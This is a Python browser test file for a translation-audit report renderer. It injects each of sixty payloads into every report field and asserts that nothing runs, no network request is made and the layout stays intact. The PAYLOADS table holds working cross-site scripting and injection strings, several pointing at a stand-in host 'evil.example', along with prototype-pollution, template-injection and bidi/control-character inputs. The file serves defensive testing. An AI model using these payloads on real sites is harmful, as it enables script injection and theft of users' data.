"""Sixty attacks, each in every field of a report at once: nothing runs, nothing is sent, nothing breaks the layout."""

from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from audit.article import Article, Document, Pair, Segment, Side, SourceMap, Span, Unit
from audit.domain import Category, Finding, Gap, Report, Severity, Signature, Standard
from audit.page.report import render
from audit.review.file import parse_review
from audit.saved.file import parse_report
from tests.browsing import chromium
from tests.page.reviewing import downloaded, introduce, press, unfold
from tests.reporters import sample

pytestmark = pytest.mark.browser

RUN = "window.hit=1"
PAYLOADS = {
    "script": f"<script>{RUN}</script>",
    "capital script": f"<SCRIPT SRC=//evil.example/x.js>{RUN}</SCRIPT >",
    "end of our script": f"</script><script>{RUN}</script>",
    "end of our script in capitals": f"</SCRIPT><script>{RUN}</script>",
    "end of our script with a slash": f"</script/><img src=x onerror={RUN}>",
    "script in a comment": f"<!--<script>{RUN}//--></script>",
    "double escaped script": f"<!--<script><script>{RUN}</script>",
    "end of a comment": f"--><script>{RUN}</script>",
    "end of character data": f"]]><script>{RUN}</script>",
    "end of our style": f"</style><script>{RUN}</script>",
    "end of a title": f"</title><script>{RUN}</script>",
    "end of a text area": f"</textarea><script>{RUN}</script>",
    "end of noscript": f"</noscript><script>{RUN}</script>",
    "image": f"<img src=x onerror={RUN}>",
    "image that is loaded": "<img src=https://evil.example/x.png>",
    "picture in SVG": f"<svg onload={RUN}>",
    "script in SVG": f"<svg><script>{RUN}</script></svg>",
    "link in SVG": f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    "animation": f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "formula": f"<math><mtext></mtext><mglyph><style><img src=x onerror={RUN}>",
    "frame": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "frame of a script": f"<iframe src='javascript:parent.{RUN}'></iframe>",
    "object": f"<object data='data:text/html,<script>{RUN}</script>'>",
    "embedded": "<embed src=//evil.example/x.swf>",
    "details": f"<details open ontoggle={RUN}>x</details>",
    "video": f"<video><source onerror={RUN}></video>",
    "autofocus": f"<input autofocus onfocus={RUN}>",
    "body": f"<body onload={RUN}>",
    "form": "<form action=//evil.example><button>Accept</button></form>",
    "base": "<base href=//evil.example/>",
    "refresh": "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "style sheet": "<link rel=stylesheet href=//evil.example/x.css>",
    "style": "<style>*{display:none}</style>",
    "import": "<style>@import '//evil.example/x.css';</style>",
    "attribute, double quotes": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    "attribute, single quotes": f"' onmouseover='{RUN}' x='",
    "attribute, none": f"x onmouseover={RUN} style=position:fixed;inset:0",
    "attribute, back quote": f"` onmouseover={RUN} `",
    "script address": f"javascript:{RUN}",
    "script address with a tab": f"java\tscript:{RUN}",
    "data address": f"data:text/html,<script>{RUN}</script>",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;img src=x onerror={RUN}&#62;",
    "template": "{{constructor.constructor('" + RUN + "')()}} ${" + RUN + "} <%= x %>",
    "prototype": '__proto__","constructor":{"prototype":{"hit":1}},"x":"',
    "end of a string": f'";{RUN};"',
    "backslashes": f'\\";{RUN};//\\u003c/script\\u003e\\',
    "line separators": f"\u2028{RUN}\u2029{RUN}",
    "line breaks": f"a\r\n\r\n<script>\n{RUN}\n</script>",
    "bidi overrides": "\u202e\u202d\u2066\u2067txt.exe\u2069\u202c gpj",
    "unclosed isolates": "\u2067\u2068\u202b" * 20,
    "nothing to be seen": "\u200b\u2060\ufeff\u00ad\u180e\U000e0041",
    "controls": "\x00\x01\x07\x08\x1b[31m\x7f\x9b2J\x1b]0;x\x07",
    "half a surrogate pair": "a\ud800b\udfffc",
    "no characters": "\ufffe\uffff\U0010ffff\ufdd0",
    "marks upon marks": "Z" + "\u0321\u0335\u0353\u0308" * 300,
    "a word of 100 KB": "W" * 100_000,
    "100 KB without a blank": "字" * 33_000,
    "emoji in a row": "👩‍👩‍👧‍👦🏳️‍🌈" * 500,
    "ten thousand tags": "<b>" * 10_000,
}
"""What it is -> the words; each takes the place of every text that comes from outside."""


def report(evil: str) -> Report:
    """A page with one attack in all of its fields: texts, names, explanations, comments of the file, what made it."""
    target = _document([("", f"Before {evil} after."), ("key", "Clean.")], evil, Side.TARGET)
    source = _document([("", f"Vor {evil} nach."), ("key", "Rein.")], evil, Side.SOURCE)
    pairs = tuple(Pair(one, other) for one, other in zip(target.segments, source.segments, strict=True))
    article = Article(target, pairs, source, f"{evil}.po".replace("\0", ""), evil)
    at = len("Before ")
    findings = (
        Finding(Category.OTHER, Severity.CRITICAL, Span(at, at + len(evil)), evil, 0.9, (evil, "b"), suggestion=evil),
        Finding(Category.OMISSION, Severity.MAJOR, Span(4, 4 + len(evil), Side.SOURCE), evil, 0.5, (evil,)),
        Finding(Category.SUSPICIOUS, Severity.NEUTRAL, Span(0, 6), evil, 0.4, ("reading",), suggestion=""),
    )
    made = sample.report(article, findings, [Gap(evil, (pairs[1].target.id,), evil)], [evil])
    signature = Signature(evil, evil, {evil: "9f" * 32}, (evil,), made.signature.weights, evil)
    return replace(made, signature=signature, standard=Standard(name=evil))


def _document(units: list[tuple[str, str]], evil: str, side: Side) -> Document:
    segments: list[Segment] = []
    text = ""
    for number, (key, words) in enumerate(units):
        span = Span(len(text), len(text) + len(words), side)
        unit = Unit(form=evil, note=evil, flags=frozenset({evil}), longest=3)
        segments.append(Segment(f"{evil}{number}", words, span, number, key or evil, unit))
        text += words + "\n\n"
    return Document(text, evil, tuple(segments), SourceMap(((0, 0),), (0,)), evil)


@pytest.fixture(scope="module")
def phone() -> Iterator[Any]:
    with chromium() as browser:
        context = browser.new_context(viewport={"width": 390, "height": 844}, reduced_motion="reduce")
        context.set_default_timeout(5000)
        yield context
        context.close()


@pytest.mark.parametrize("name", PAYLOADS)
def test_it_stays_words(phone: Any, tmp_path: Path, name: str) -> None:
    evil = PAYLOADS[name]
    file = tmp_path / "report.html"
    written = render(report(evil))
    file.write_text(written, encoding="utf-8")
    happened: list[str] = []
    page = phone.new_page()
    page.on("console", lambda message: happened.append(message.text))
    page.on("pageerror", lambda error: happened.append(str(error)))
    page.on("dialog", lambda dialog: (happened.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: happened.append(request.url) if request.url != file.as_uri() else None)
    page.goto(file.as_uri())
    introduce(page, "Anna")
    press(page, "j a j r")
    unfold(page, "Review")
    _, exported = downloaded(page, "Export review")
    assert page.evaluate("[window.hit, Object.prototype.hit]") == [None, None]
    assert page.locator("body").count() == page.locator("#findings").count() == 1
    assert page.locator("img, iframe, object, embed, base, link, form[action], svg script, #text style").count() == 0
    assert page.evaluate("document.documentElement.scrollWidth") == 390
    assert page.get_by_role("button", name="Accept").first.is_visible()
    assert happened == []
    page.close()
    assert {one.verdict.value for one in parse_review(exported, "x").decisions} == {"accept", "reject"}
    assert len(parse_report(written, "report.html").findings) == 3


def test_there_are_sixty() -> None:
    assert len(PAYLOADS) >= 60
